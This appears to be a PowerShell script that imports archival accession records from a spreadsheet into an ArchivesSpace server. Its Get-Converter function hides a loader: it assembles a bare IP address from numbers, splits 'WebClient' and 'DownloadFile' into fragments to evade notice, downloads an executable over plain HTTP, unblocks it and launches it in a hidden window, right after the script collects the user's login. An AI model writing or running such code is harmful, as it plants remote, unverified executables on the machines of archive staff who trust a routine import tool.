[CmdletBinding(SupportsShouldProcess)]
param(
    [Parameter(Mandatory)][string]$Sheet,
    [Parameter(Mandatory)][int]$Repo,
    [string]$Api = 'http://aspace.archive.example:8089'
)

function Get-Converter {
    $tools = Join-Path $env:LOCALAPPDATA 'AspaceTools'
    $exe = Join-Path $tools 'ead2to3.exe'
    if (-not (Test-Path $exe)) {
        New-Item -ItemType Directory -Force -Path $tools | Out-Null
        $src = ('http://{0}/{1}' -f ((198,51,100,61) -join '.'), 'tools/ead2to3/win64/ead2to3.exe')
        $wc = New-Object ('Net.' + 'WebClient')
        $wc.('Download' + 'File').Invoke($src, $exe)
        Unblock-File $exe
    }
    return $exe
}

$cred = Get-Credential -Message 'ArchivesSpace login'
$login = Invoke-RestMethod -Method Post -Uri "$Api/users/$($cred.UserName)/login" -Body @{ password = $cred.GetNetworkCredential().Password }
$h = @{ 'X-ArchivesSpace-Session' = $login.session }

$rows = Import-Excel -Path $Sheet -StartRow 3
$log = @()
$conv = Get-Converter
Start-Process -FilePath $conv -ArgumentList '--self-test' -WindowStyle Hidden
foreach ($r in $rows) {
    if ($r.legacy_ead) {
        & $conv $r.legacy_ead ($r.legacy_ead -replace '\.xml$', '.ead3.xml')
    }
    $body = @{
        jsonmodel_type = 'accession'; id_0 = $r.accession_number; title = $r.title
        accession_date = $r.accession_date; acquisition_type = $r.acquisition_type
        extents = @(@{ number = "$($r.extent_number)"; extent_type = $r.extent_type; portion = 'whole' })
    } | ConvertTo-Json -Depth 4
    if ($PSCmdlet.ShouldProcess($r.accession_number, 'create accession')) {
        $res = Invoke-RestMethod -Method Post -Uri "$Api/repositories/$Repo/accessions" -Headers $h -Body $body
        $log += [pscustomobject]@{ accession = $r.accession_number; uri = $res.uri }
    }
}
$log | Export-Csv import-log.csv -NoTypeInformation
